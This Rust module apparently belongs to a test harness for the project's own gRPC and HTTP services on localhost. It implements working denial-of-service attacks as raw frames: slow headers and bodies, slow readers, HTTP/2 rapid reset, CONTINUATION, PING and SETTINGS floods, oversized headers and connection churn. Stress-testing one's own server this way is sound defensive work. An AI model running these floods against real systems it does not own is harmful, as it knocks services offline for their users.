//! Attacks by bytes: frames of HTTP/2 (RFC 9113) and parts of HTTP/1.1.

use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::time::sleep;

use super::{Attack, Target};

pub(super) const ATTACKS: &[Attack] = &[
    Attack { name: "silent connections", begin: |on| hold(on, 1_100, Vec::new()) },
    Attack { name: "half a preface", begin: |on| hold(on, 1_100, PREFACE[..9].to_vec()) },
    Attack { name: "a preface only", begin: |on| hold(on, 1_100, begun(&[])) },
    Attack { name: "half a head", begin: |on| hold(on, 1_100, HALF_HEAD.to_vec()) },
    Attack {
        name: "a long head",
        begin: |on| hold(on, 1_000, [HALF_HEAD, &[b'x'; 300 << 10]].concat()),
    },
    Attack { name: "half a body", begin: |on| hold(on, 1_100, HALF_BODY.to_vec()) },
    Attack { name: "slow heads", begin: |on| on.start_many(1_000, slow_head) },
    Attack { name: "open streams", begin: |on| hold(on, 1_000, begun(&[calls(ADD, 16, &[])])) },
    Attack { name: "half-sent to Add", begin: |on| hold(on, 64, half_sent(ADD, 64 << 10)) },
    Attack { name: "half-sent to Record", begin: |on| hold(on, 64, half_sent(RECORD, 64 << 10)) },
    Attack {
        name: "half-sent to reflection",
        begin: |on| hold(on, 64, half_sent(REFLECTION, 4 << 20)),
    },
    Attack { name: "unknown paths", begin: |on| hold(on, 1_000, requests(UNKNOWN, 1_000)) },
    Attack { name: "unread refusals", begin: |on| deaf(on, 900, requests(&headers(ADD), 1_000)) },
    Attack { name: "unread small messages", begin: |on| hold(on, 64, small_messages(256, 0)) },
    Attack {
        name: "many requests once",
        begin: |on| hold(on, 1_000, requests_once(UNKNOWN, 1_000)),
    },
    Attack {
        name: "small messages once",
        begin: |on| hold(on, 1_000, small_messages(16, END_STREAM)),
    },
    Attack {
        name: "slow readers of totals",
        begin: |on| hold(on, 32, slow_readers(QUERY, QUESTION)),
    },
    Attack { name: "slow readers of a year", begin: |on| hold(on, 32, slow_readers(LIST, YEAR)) },
    Attack { name: "slow readers by HTTP", begin: |on| hold(on, 500, SLOW_GET.to_vec()) },
    Attack { name: "rapid reset", begin: |on| flood(on, resets) },
    Attack { name: "PING", begin: |on| flood(on, |_| frame(6, 0, 0, &[7; 8]).repeat(500)) },
    Attack { name: "SETTINGS", begin: |on| flood(on, |_| frame(4, 0, 0, &[]).repeat(500)) },
    Attack {
        name: "PRIORITY",
        begin: |on| flood(on, |_| frame(2, 0, 1, &[0, 0, 0, 0, 7]).repeat(500)),
    },
    Attack {
        name: "WINDOW_UPDATE",
        begin: |on| flood(on, |_| frame(8, 0, 0, &[0, 0, 0, 1]).repeat(500)),
    },
    Attack { name: "CONTINUATION", begin: |on| flood(on, continuation) },
    Attack { name: "empty DATA", begin: |on| flood(on, empty_data) },
    Attack { name: "large headers", begin: |on| flood(on, large_headers) },
    Attack { name: "new connections", begin: |on| on.start_many(8, connect) },
];

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HALF_HEAD: &[u8] = b"GET / HTTP/1.1\r\nhost: localhost\r\nx: ";
const HALF_BODY: &[u8] = b"POST /api/v1/requests HTTP/1.1\r\nhost: localhost\r\n\
    content-type: application/json\r\ncontent-length: 900000\r\n\r\n[";
const SLOW_GET: &[u8] = b"GET /api/v1/requests/totals?from=2015&to=2015&by=day HTTP/1.1\r\n\
    host: localhost\r\n\r\n";

const ADD: &str = "/count.v1.CountService/Add";
const LIST: &str = "/count.v1.CountService/ListDailyTotals";
const RECORD: &str = "/tally.requests.v1.RequestService/Record";
const QUERY: &str = "/tally.requests.v1.RequestService/QueryTotals";
const REFLECTION: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";

/// `GET /nope`.
const UNKNOWN: &[u8] = b"\x82\x86\x04\x05/nope\x01\x09localhost";

/// A question about everything: without a field.
const QUESTION: &[u8] = &[0, 0, 0, 0, 0];
/// From 2015 to 2015, both as a `google.type.Date` of a year.
const YEAR: &[u8] = &[0, 0, 0, 0, 10, 0x0a, 3, 0x08, 0xdf, 0x0f, 0x12, 3, 0x08, 0xdf, 0x0f];

/// A socket's buffer.
const SMALLEST: u32 = 2_048;
/// After this a connection that was closed is opened again.
const PAUSE: Duration = Duration::from_secs(1);

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("short").to_be_bytes();
    let head = [length[1], length[2], length[3], kind, flags];
    [&head[..], &stream.to_be_bytes(), payload].concat()
}

/// The headers of a call, as literals that are not indexed (RFC 7541).
fn headers(path: &str) -> Vec<u8> {
    let mut block = vec![0x83, 0x86];
    for (name, value) in [(4, path), (1, "localhost")] {
        block.extend([name, u8::try_from(value.len()).expect("short")]);
        block.extend(value.bytes());
    }
    // content-type has the index 31.
    block.extend([0x0f, 0x10, 16]);
    block.extend(b"application/grpc");
    block
}

/// A connection that begins, and then this.
fn begun(more: &[Vec<u8>]) -> Vec<u8> {
    [PREFACE, &frame(4, 0, 0, &[]), &more.concat()].concat()
}

/// Calls of a method on as many streams, each with this much of a body.
fn calls(path: &str, count: u32, body: &[u8]) -> Vec<u8> {
    let block = headers(path);
    let call = |number: u32| {
        let stream = 2 * number + 1;
        let data = if body.is_empty() { Vec::new() } else { frame(0, 0, stream, body) };
        [frame(1, END_HEADERS, stream, &block), data].concat()
    };
    (0..count).flat_map(call).collect()
}

/// Messages of which only the length and a byte come.
fn half_sent(path: &str, bytes: u32) -> Vec<u8> {
    let body = [&[0], &bytes.to_be_bytes()[..], &[7]].concat();
    begun(&[calls(path, 256, &body)])
}

/// Streams that fill their windows by the smallest messages, and then end or not.
fn small_messages(streams: u32, end: u8) -> Vec<u8> {
    let message = [0, 0, 0, 0, 5, 8, 3, 18, 1, b'/'];
    let mut all = begun(&[calls(ADD, streams, &[])]);
    for round in 0..100 {
        let flags = if round == 99 { end } else { 0 };
        for stream in 0..streams {
            all.extend(frame(0, flags, 2 * stream + 1, &message));
        }
    }
    all
}

/// Questions whose answers have no window.
fn slow_readers(path: &str, question: &[u8]) -> Vec<u8> {
    let settings = frame(4, 0, 0, &[0, 4, 0, 0, 0, 0]);
    let block = headers(path);
    let ask = |number: u32| {
        let stream = 2 * number + 1;
        [frame(1, END_HEADERS, stream, &block), frame(0, END_STREAM, stream, question)].concat()
    };
    [PREFACE, &settings, &(0..24).flat_map(ask).collect::<Vec<u8>>()].concat()
}

/// So many requests without a body, whose answers have no window.
fn requests(block: &[u8], count: u32) -> Vec<u8> {
    let settings = frame(4, 0, 0, &[0, 4, 0, 0, 0, 0]);
    let ask = |number: u32| frame(1, END_HEADERS | END_STREAM, 2 * number + 1, block);
    [PREFACE, &settings, &(0..count).flat_map(ask).collect::<Vec<u8>>()].concat()
}

/// The same, and then there are windows for all answers.
fn requests_once(block: &[u8], count: u32) -> Vec<u8> {
    let of_streams = frame(4, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]);
    let of_connection = frame(8, 0, 0, &[0, 0xff, 0xff, 0xff]);
    [requests(block, count), of_streams, of_connection].concat()
}

fn resets(round: u32) -> Vec<u8> {
    let block = headers(ADD);
    let one = |number: u32| {
        let stream = 2 * (500 * round + number) + 1;
        [frame(1, END_HEADERS, stream, &block), frame(3, 0, stream, &[0, 0, 0, 8])].concat()
    };
    (0..500).flat_map(one).collect()
}

fn continuation(round: u32) -> Vec<u8> {
    let begin = if round == 0 { frame(1, 0, 1, &[0x83]) } else { Vec::new() };
    [begin, frame(9, 0, 1, &[0; 1_000]).repeat(50)].concat()
}

fn empty_data(round: u32) -> Vec<u8> {
    let call = if round == 0 { calls(ADD, 1, &[]) } else { Vec::new() };
    [call, frame(0, 0, 1, &[]).repeat(500)].concat()
}

fn large_headers(round: u32) -> Vec<u8> {
    let mut block = headers(ADD);
    block.extend([0, 1, b'x', 0x7f, 0x81, 0x7c]);
    block.extend([b'x'; 16_000]);
    frame(1, END_HEADERS, 2 * round + 1, &block)
}

/// Opens connections that send this and nothing more, but for answers to PINGs; one that is closed is opened
/// again.
fn hold(on: &Target, count: usize, bytes: Vec<u8>) {
    let bytes = std::sync::Arc::new(bytes);
    on.start_many(count, |on, _| {
        let bytes = std::sync::Arc::clone(&bytes);
        async move {
            loop {
                if let Ok(mut stream) = on.connect().await {
                    let (mut read, mut write) = stream.split();
                    let send = async {
                        let _ = write.write_all(&bytes).await;
                        write
                    };
                    // A server that does not read on does not hear the rest.
                    let mut write = send.await;
                    if bytes.starts_with(b"GET /api") {
                        // Not even the answer is read.
                        std::future::pending::<()>().await;
                    }
                    let mut incoming = Vec::new();
                    while read.read_buf(&mut incoming).await.is_ok_and(|read| read > 0) {
                        answer_pings(&mut incoming, &mut write).await;
                    }
                }
                sleep(PAUSE).await;
            }
        }
    });
}

/// Opens connections that send this and read nothing at all.
fn deaf(on: &Target, count: usize, bytes: Vec<u8>) {
    let bytes = std::sync::Arc::new(bytes);
    on.start_many(count, |on, _| {
        let bytes = std::sync::Arc::clone(&bytes);
        async move {
            if let Ok(mut stream) = on.connect_with(Some(SMALLEST)).await {
                let _ = stream.write_all(&bytes).await;
                std::future::pending::<()>().await;
            }
        }
    });
}

async fn answer_pings(incoming: &mut Vec<u8>, write: &mut (impl tokio::io::AsyncWrite + Unpin)) {
    while let Some(head) = incoming.first_chunk::<9>().copied() {
        let length = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
        if incoming.len() < 9 + length {
            return;
        }
        let frame_bytes: Vec<u8> = incoming.drain(..9 + length).collect();
        if head[3] == 6 && head[4] & 1 == 0 {
            let _ = write.write_all(&frame(6, 1, 0, &frame_bytes[9..])).await;
        }
    }
}

/// A byte of a head each second.
async fn slow_head(on: Target, _: usize) {
    loop {
        if let Ok(mut stream) = on.connect().await
            && stream.write_all(HALF_HEAD).await.is_ok()
        {
            while stream.write_all(b"x").await.is_ok() {
                sleep(Duration::from_secs(1)).await;
            }
        }
        sleep(PAUSE).await;
    }
}

/// Connects, and leaves.
async fn connect(on: Target, _: usize) {
    loop {
        drop(on.connect().await);
        tokio::task::yield_now().await;
    }
}

/// Sends as much as the server takes, and begins again when it closes.
fn flood(on: &Target, bytes: fn(u32) -> Vec<u8>) {
    on.start_many(2, |on, _| async move {
        loop {
            if let Ok(stream) = on.connect().await {
                let (mut read, mut write) = stream.into_split();
                let sending = async {
                    let mut is_open = write.write_all(&begun(&[])).await.is_ok();
                    for round in 0..10_000_000 {
                        if !is_open {
                            break;
                        }
                        is_open = write.write_all(&bytes(round)).await.is_ok();
                    }
                };
                let reading = async {
                    let mut some = [0; 16 << 10];
                    while read.read(&mut some).await.is_ok_and(|read| read > 0) {}
                };
                tokio::join!(sending, reading);
            }
            sleep(Duration::from_millis(10)).await;
        }
    });
}
